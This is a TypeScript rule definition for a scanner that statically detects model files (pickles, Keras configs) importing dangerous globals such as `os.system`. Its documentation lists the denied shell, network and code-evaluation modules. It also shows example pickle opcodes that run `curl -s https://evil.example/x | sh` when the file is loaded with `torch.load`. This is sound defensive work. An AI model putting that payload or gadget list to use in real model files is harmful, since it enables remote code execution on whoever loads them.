/**
 * AIS601 model-file-dangerous-global: a model file that makes its loader import a dangerous global
 * (`os.system`, `builtins.exec`, `subprocess.*`, …): a pickle GLOBAL/STACK_GLOBAL/INST, a global the
 * scanner cannot name, or a Keras config that names such a module.
 */
import type { RuleMeta } from '../../../engine/rule';
import { CONVERT_TO_SAFETENSORS, MODEL_FILE_REFERENCES } from '../shared-docs';

export const meta: RuleMeta = {
  id: 'AIS601',
  name: 'model-file-dangerous-global',
  title: 'Model file imports a dangerous global',
  category: 'model-files',
  fileKinds: ['model'],
  severity: 'error',
  confidence: 'high',
  cwe: ['CWE-502'],
  message: 'Loading this model file runs `{{global}}` (imported at byte {{offset}}).',
  fixAvailability: 'none',
  docs: {
    whatItDoes:
      'Scans model files (`.pt`, `.pth`, `.bin`, `.ckpt`, `.pkl`, `.joblib`, `.npy`, `.npz`, `.keras`, `.h5`, and pickles disguised under other names) without loading them, and reports the ones whose pickles import a global on the deny list: process and shell access (`os`, `posix`, `subprocess`, `pty`, `sys`), code evaluation (`builtins.eval`/`exec`/`compile`/`__import__`, `runpy`, `marshal`, `types.CodeType`), attribute-access gadgets (`builtins.getattr`, `operator.attrgetter`, `functools.partial`), nested loaders (`pickle`, `dill`, `torch.load`, `torch.hub`, `torch.jit`), files and network (`shutil`, `socket`, `urllib.request`, `webbrowser`), debuggers and FFI (`pdb`, `ctypes`). A global whose name cannot be determined statically (a `STACK_GLOBAL` fed by computed values, an extension-registry code) is reported too, because evasion is the only reason to write one. Keras configs that name such a module (`"module": "os"`, the CVE-2025-1550 pattern) are reported as well. The message names the global and its byte offset; the finding\'s properties hold `global`, `offset`, `format` and `member`.',
    whyIsThisBad:
      '`torch.load`, `pickle.load`, `joblib.load` and `numpy.load(allow_pickle=True)` execute the pickle program in the file: importing a global and calling it (`REDUCE`) is how a pickle rebuilds objects, and it is equally how a malicious model runs `os.system("curl … | sh")` the moment it is opened. Malicious models on public hubs have done exactly this. Nothing in the file format distinguishes a checkpoint from a payload; only the globals it imports do.',
    example:
      '# model.pt, inside archive/data.pkl (shown as pickle opcodes):\n#   GLOBAL     \'os system\'\n#   UNICODE    \'curl -s https://evil.example/x | sh\'\n#   TUPLE1\n#   REDUCE\nimport torch\nmodel = torch.load("model.pt")  # runs the command',
    useInstead:
      `# Do not load the file. Delete it, or obtain the weights from a trusted source as safetensors.\n# For a checkpoint you trust but that was flagged for a false positive, convert it once:\n${CONVERT_TO_SAFETENSORS}`,
    references: ['https://cwe.mitre.org/data/definitions/502.html', ...MODEL_FILE_REFERENCES, 'https://nvd.nist.gov/vuln/detail/CVE-2025-1550', 'https://github.com/mmaitre314/picklescan'],
  },
};
